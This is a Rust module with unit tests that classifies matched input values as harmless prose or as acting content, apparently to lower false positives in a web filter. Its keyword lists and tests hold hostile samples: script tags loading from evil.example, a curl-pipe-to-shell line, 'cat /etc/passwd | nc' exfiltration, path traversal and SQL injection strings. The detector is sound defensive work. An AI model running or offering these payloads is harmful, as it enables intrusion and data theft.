//! Sentences: people write about markup, paths and commands to one another, in tickets and comments.
//!
//! In: a value that a rule matched. Out: whether it reads as prose, by its plain words, and holds nothing that would act: no script
//! with a source or a call, no command that fetches, pipes or reads files. A sentence is easily put around what acts.

use std::ops::RangeInclusive;

/// Plain words from which on a value is prose.
const WORDS_MIN: usize = 5;
/// Letters of a plain word: single ones name columns, and what is longer may be a key.
const LETTERS: RangeInclusive<usize> = 2..=20;
/// Words that statements and commands are made of, in lower case: they make no prose.
const CODE: &[&[u8]] = &[
    b"all",
    b"alter",
    b"by",
    b"case",
    b"cast",
    b"cat",
    b"char",
    b"concat",
    b"count",
    b"curl",
    b"database",
    b"delete",
    b"distinct",
    b"drop",
    b"echo",
    b"else",
    b"end",
    b"exec",
    b"exists",
    b"file",
    b"from",
    b"group",
    b"having",
    b"insert",
    b"into",
    b"join",
    b"like",
    b"limit",
    b"ls",
    b"nc",
    b"not",
    b"null",
    b"offset",
    b"or",
    b"order",
    b"ping",
    b"select",
    b"set",
    b"sleep",
    b"table",
    b"then",
    b"union",
    b"update",
    b"users",
    b"values",
    b"wget",
    b"when",
    b"where",
    b"xor",
];

/// What acts, in lower case.
const ACTS: &[&[u8]] = &[b"://", b"src", b"(", b"=", b"|", b"/dev/", b"/etc/", b">/", b"javascript:", b"//"];

/// Whether at least [`WORDS_MIN`] plain words stand in `value`, half of it is plain words, and nothing in it acts.
pub(super) fn is_prose(value: &[u8]) -> bool {
    let small = value.to_ascii_lowercase();
    if ACTS.iter().any(|sign| memchr::memmem::find(&small, sign).is_some()) {
        return false;
    }
    let (mut words, mut all) = (0, 0);
    for part in value.split(u8::is_ascii_whitespace).filter(|part| !part.is_empty()) {
        all += 1;
        words += usize::from(is_word(part));
    }
    words >= WORDS_MIN && 2 * words >= all
}

/// Whether it is a word as sentences have them: letters, perhaps with one mark behind, and nothing that code is made of.
fn is_word(part: &[u8]) -> bool {
    let word =
        part.strip_suffix(b",").or_else(|| part.strip_suffix(b".")).or_else(|| part.strip_suffix(b":")).unwrap_or(part);
    let word = word.strip_suffix(b"?").or_else(|| word.strip_suffix(b"!")).unwrap_or(word);
    let letters = |byte: &u8| byte.is_ascii_alphabetic() || *byte >= 0x80;
    LETTERS.contains(&word.len()) && word.iter().all(letters) && !CODE.contains(&&*word.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sentences_about_payloads_are_prose_and_payloads_are_not() {
        for (value, prose) in [
            ("the <script> tag of the page is escaped twice: &lt;script&gt;", true),
            ("see ../../conf/app.yml, that path is wrong on windows", true),
            ("run `make clean && rm -rf target` and it builds again", true),
            ("Schaut bitte in ../../conf/app.yml, da fehlt ein Pfad für euch", true),
            ("<script>alert(1)</script>", false),
            ("Great product thank you so much for it <script src=//evil.example/x.js></script>", false),
            ("printer; curl http://evil.example/x | sh # please have a look at this report", false),
            ("no such folder with reports here/../../../../etc/passwd", false),
            ("../../../../etc/passwd", false),
            ("a.pdf; cat /etc/passwd | nc 192.0.2.1 4444", false),
            ("x' union select name, password from users where id = 1 -- ", false),
            ("1; select a from b where c in (select d from e) and f like g or h", false),
        ] {
            assert_eq!(is_prose(value.as_bytes()), prose, "{value}");
        }
    }
}
